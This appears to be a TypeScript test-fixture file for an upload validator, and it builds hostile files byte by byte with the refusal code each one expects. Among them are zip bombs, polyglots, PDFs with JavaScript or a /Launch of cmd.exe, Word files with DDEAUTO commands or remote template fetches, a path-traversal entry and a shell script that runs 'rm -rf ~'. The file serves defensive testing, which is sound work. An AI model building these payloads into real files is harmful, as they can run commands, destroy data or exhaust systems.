// Files that must never be stored, made here byte by byte: what each one is, and the refusal that it gets.
import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { doc, docx, docxFiles, packedObject, pdf, relations } from './sample-files.ts';

/** A picture without anything on it. */
export function flat(kind: 'jpeg' | 'png', width: number, height: number): Promise<Buffer> {
  const create = { width, height, channels: 3, background: 'teal' } as const;
  return sharp({ create, limitInputPixels: false }).toFormat(kind).toBuffer();
}

/** Says of the files in a zip that they are of another size than they are. */
function withDeclaredSize(zip: Buffer, bytes: number): Buffer {
  const lying = Buffer.from(zip);
  for (let at = 0; at < lying.length - 4; at += 1)
    if (lying.readUInt32LE(at) === 0x02014b50) lying.writeUInt32LE(bytes, at + 24);
  return lying;
}

function encrypted(zip: Buffer): Buffer {
  const locked = Buffer.from(zip);
  for (let at = 0; at < locked.length - 4; at += 1)
    if (locked.readUInt32LE(at) === 0x02014b50) locked.writeUInt16LE(locked.readUInt16LE(at + 8) | 1, at + 8);
  return locked;
}

/** Two names in the directory for the same bytes: how a bomb of a few kilobytes unfolds to terabytes. */
function overlapping(): Buffer {
  const zip = docx({ 'word/a.xml': strToU8('<a/>'), 'word/b.xml': strToU8('<a/>') });
  const starts: number[] = [];
  for (let at = 0; at < zip.length - 4; at += 1) if (zip.readUInt32LE(at) === 0x02014b50) starts.push(at);
  const [first, second] = starts.slice(-2) as [number, number];
  zip.writeUInt32LE(zip.readUInt32LE(first + 42), second + 42);
  return zip;
}

const script = '5 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n';
export const zeros = Buffer.alloc(70 * 1024 * 1024);

/** Each with the beginning of the code of its refusal. The largest file that is taken has 10 MiB. */
export const hostileFiles: [string, () => Buffer | Promise<Buffer>, string][] = [
  // Not what they say they are.
  ['nothing', () => Buffer.alloc(0), 'file-empty'],
  ['too much', () => Buffer.alloc(10 * 1024 * 1024 + 1, '%PDF-1.7'), 'file-too-large'],
  ['a program', () => Buffer.from('MZ\x90\0 program'), 'file-kind'],
  ['a program of Linux', () => Buffer.from('\x7fELF program'), 'file-kind'],
  ['a page', () => Buffer.from('<!doctype html><script>alert(1)</script>'), 'file-kind'],
  ['a page before a PDF', () => Buffer.concat([Buffer.from('<script></script>'), pdf()]), 'file-kind'],
  ['a drawing with a script', () => Buffer.from('<svg onload="alert(1)"/>'), 'file-kind'],
  ['a moving picture', () => Buffer.from('GIF89a/*'), 'file-kind'],
  ['a GIF before a PDF', () => Buffer.concat([Buffer.from('GIF89a'), pdf()]), 'file-kind'],
  ['rich text', () => Buffer.from('{\\rtf1\\object}'), 'file-kind'],
  ['PostScript', () => Buffer.from('%!PS-Adobe-3.0'), 'file-kind'],
  ['a shell script', () => Buffer.from('#!/bin/sh\nrm -rf ~'), 'file-kind'],
  ['a RAR archive', () => Buffer.from('Rar!\x1a\x07'), 'file-kind'],
  ['a gzip archive', () => Buffer.from('\x1f\x8b\x08', 'latin1'), 'file-kind'],
  // PDF.
  ['half a PDF', () => pdf().subarray(0, 300), 'file-pdf-damaged'],
  ['the first line of a PDF', () => Buffer.from('%PDF-1.7\n'), 'file-pdf-damaged'],
  ['a PDF with an archive behind it', () => Buffer.concat([pdf(), docx()]), 'file-pdf-damaged'],
  ['a PDF of no version', () => pdf({ version: 'x' }), 'file-pdf-damaged'],
  ['a PDF with a script', () => pdf({ objects: script }), 'file-pdf-active'],
  [
    'a PDF with a script written in escapes',
    () => pdf({ objects: script.replace('/JavaScript', '/J#61va#53cript') }),
    'file-pdf-active',
  ],
  [
    'a PDF with a script behind a string, a comment and a bracket that are over',
    () => pdf({ objects: script.replace('/S', '/T (a\\\\) % (\n /U <28( > /S') }),
    'file-pdf-active',
  ],
  [
    'a PDF that says it a thousand times',
    () => pdf({ objects: '(/Launch\n'.repeat(1100) }),
    'file-pdf-active',
  ],
  [
    'a PDF with a script in a packed stream',
    () => pdf({ objects: packedObject('/Type /ObjStm /N 1 /First 4', `5 0 ${script}`) }),
    'file-pdf-active',
  ],
  [
    'a PDF with a script in a stream that says it is something else',
    () => pdf({ objects: packedObject('/Type /XObject /Subtype /Image', `5 0 ${script}`) }),
    'file-pdf-active',
  ],
  [
    'a PDF whose objects are packed twice',
    () =>
      pdf({
        objects: packedObject('/Type /ObjStm /N 1 /First 4', '5 0 <<>>').replace(
          '/FlateDecode',
          '[/ASCIIHexDecode /FlateDecode]',
        ),
      }),
    'file-pdf-damaged',
  ],
  [
    'a PDF that starts a program',
    () => pdf({ objects: '5 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n' }),
    'file-pdf-active',
  ],
  [
    'a PDF with a form that sends',
    () => pdf({ objects: '5 0 obj\n<< /S /SubmitForm /F (https://x.example) >>\nendobj\n' }),
    'file-pdf-active',
  ],
  [
    'a PDF with an XFA form',
    () => pdf({ objects: '5 0 obj\n<< /XFA 6 0 R >>\nendobj\n' }),
    'file-pdf-active',
  ],
  [
    'a PDF with a film',
    () => pdf({ objects: '5 0 obj\n<< /Subtype /RichMedia >>\nendobj\n' }),
    'file-pdf-active',
  ],
  [
    'a PDF with a file inside',
    () => pdf({ objects: '5 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n' }),
    'file-pdf-attachments',
  ],
  ['a PDF with a password', () => pdf({ trailer: '/Encrypt 9 0 R' }), 'file-pdf-locked'],
  [
    'a PDF that unfolds',
    () => pdf({ objects: packedObject('/Type /ObjStm /N 1 /First 4', zeros) }),
    'file-pdf-damaged',
  ],
  // Pictures.
  ['the beginning of a JPEG', () => Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), 'file-image-damaged'],
  ['half a JPEG', async () => (await flat('jpeg', 800, 800)).subarray(0, 900), 'file-image-damaged'],
  [
    'half a PNG',
    async () => {
      const whole = await flat('png', 800, 800);
      return whole.subarray(0, whole.length / 2);
    },
    'file-image-damaged',
  ],
  ['a PNG of a hundred and forty-four million dots', () => flat('png', 12_000, 12_000), 'file-image-pixels'],
  [
    'a JPEG of a hundred and forty-four million dots',
    () => flat('jpeg', 12_000, 12_000),
    'file-image-pixels',
  ],
  [
    'a page after the beginning of a PNG',
    () =>
      Buffer.concat([
        Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
        Buffer.from('<script>alert(1)</script>'),
      ]),
    'file-image-damaged',
  ],
  // Word.
  ['an archive', () => Buffer.from(zipSync({ 'a.txt': strToU8('a') })), 'file-word-damaged'],
  ['the beginning of an archive', () => Buffer.from('PK\x03\x04', 'latin1'), 'file-word-damaged'],
  ['a document with macros', () => docx({ 'word/vbaProject.bin': strToU8('macro') }), 'file-word-macros'],
  [
    'a document that says it has macros',
    () => docx({}, 'application/vnd.ms-word.document.macroEnabled.main+xml'),
    'file-word-macros',
  ],
  [
    'a template',
    () => docx({}, 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml'),
    'file-word-damaged',
  ],
  [
    'a document with controls',
    () => docx({ 'word/activeX/activeX1.xml': strToU8('<a/>') }),
    'file-word-macros',
  ],
  [
    'a document that gives a command',
    () =>
      docx({
        'word/document.xml': strToU8(
          '<w:document><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe</w:instrText></w:document>',
        ),
      }),
    'file-word-macros',
  ],
  [
    'a document with an object inside',
    () => docx({ 'word/embeddings/oleObject1.bin': strToU8('x') }),
    'file-word-nested',
  ],
  [
    'a document with an archive inside',
    () => docx({ 'word/media/image1.png': zipSync({ a: strToU8('a') }) }),
    'file-word-nested',
  ],
  ['a document with a program inside', () => docx({ 'word/media/a.png': strToU8('MZ') }), 'file-word-nested'],
  ['a document that unfolds', () => docx({ 'word/media/a.xml': new Uint8Array(zeros) }), 'file-word-large'],
  [
    'a document that unfolds and says it does not',
    () => withDeclaredSize(docx({ 'word/media/a.xml': new Uint8Array(zeros) }), 1000),
    'file-word-',
  ],
  ['a document whose files overlap', overlapping, 'file-word-damaged'],
  ['a document with a password on its files', () => encrypted(docx()), 'file-word-locked'],
  [
    'a document that fetches a template',
    () =>
      docx({
        'word/_rels/settings.xml.rels': strToU8(relations('attachedTemplate', 'https://x.example/a.dotm')),
      }),
    'file-word-fetches',
  ],
  [
    'a document that fetches a template, written in entities',
    () =>
      docx({
        'word/_rels/settings.xml.rels': strToU8(
          relations('attachedTemplate', '\\\\x.example\\a.dotm', '&#69;xternal'),
        ),
      }),
    'file-word-fetches',
  ],
  [
    'a document that fetches a picture',
    () =>
      docx({ 'word/_rels/document.xml.rels': strToU8(relations('image', 'https://x.example/track.png')) }),
    'file-word-fetches',
  ],
  [
    'a document that fetches a picture, behind a bracket in a value',
    () =>
      docx({
        'word/_rels/document.xml.rels': strToU8(
          relations('image', 'https://x.example/track.png').replace('Id="rId1"', 'Id="a>b"'),
        ),
      }),
    'file-word-fetches',
  ],
  [
    'a document that fetches a picture, written in another way',
    () =>
      docx({
        'word/_rels/document.xml.RELS': strToU8(
          relations('image', 'https://x.example/track.png', '&#x00000045;xternal').replace(
            /<(?=Relationship )/,
            '<r-1:',
          ),
        ),
      }),
    'file-word-fetches',
  ],
  [
    'a document that gives a command as plain words',
    () =>
      docx({
        'word/document.xml': strToU8(
          '<a b=">">D<![CDATA[D]]><!-- > --><?x > ?>&#0000069;AUTO c:\\cmd.exe</a>',
        ),
      }),
    'file-word-macros',
  ],
  [
    'a document with entities that unfold',
    () =>
      docx({
        'word/document.xml': strToU8('<!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><a>&d;</a>'),
      }),
    'file-word-damaged',
  ],
  [
    'a document in an encoding that hides',
    () => docx({ 'word/document.xml': Buffer.from('<a/>', 'utf16le') }),
    'file-word-damaged',
  ],
  [
    'a document that climbs out of its folder',
    () => docx({ '../../etc/passwd': strToU8('x') }),
    'file-word-damaged',
  ],
  [
    'a document of a thousand files and more',
    () =>
      docx(Object.fromEntries(Array.from({ length: 1100 }, (_, index) => [`a${index}`, new Uint8Array(1)]))),
    'file-word-damaged',
  ],
  [
    'a document with something before it',
    () => Buffer.concat([Buffer.from('PK\x03\x04junk', 'latin1'), docx()]),
    'file-word-damaged',
  ],
  [
    'a document with something behind it',
    () => Buffer.concat([docx(), Buffer.from('more')]),
    'file-word-damaged',
  ],
  [
    'a document without words',
    () => {
      const { '[Content_Types].xml': types } = docxFiles();
      return Buffer.from(zipSync({ '[Content_Types].xml': strToU8(types ?? '') }));
    },
    'file-word-damaged',
  ],
  // Old Word.
  ['an old document with macros', () => doc({ names: ['Macros'] }), 'file-word-macros'],
  ['an old document with a project', () => doc({ names: ['_VBA_PROJECT'] }), 'file-word-macros'],
  ['an old document with an object', () => doc({ names: ['\x03ObjInfo'] }), 'file-word-nested'],
  ['an old document with a file', () => doc({ names: ['\x01Ole10Native'] }), 'file-word-nested'],
  ['an old document with a password', () => doc({ flags: 0x0100 }), 'file-word-locked'],
  ['a locked new document', () => doc({ names: ['EncryptedPackage'] }), 'file-word-locked'],
  ['an old document that gives a command', () => doc({ text: 'DDEAUTO cmd.exe' }), 'file-word-macros'],
  ['an old table', () => doc({ document: 'Workbook' }), 'file-word-damaged'],
  ['an installer', () => doc({ document: '\u4840\u3f3f' }), 'file-word-damaged'],
  ['half an old document', () => doc().subarray(0, 2000), 'file-word-damaged'],
  [
    'an old document whose directory goes round in circles',
    () => {
      const file = doc();
      const table = file.length - 512;
      file.writeUInt32LE(8, table + 8 * 4);
      return file;
    },
    'file-word-damaged',
  ],
];
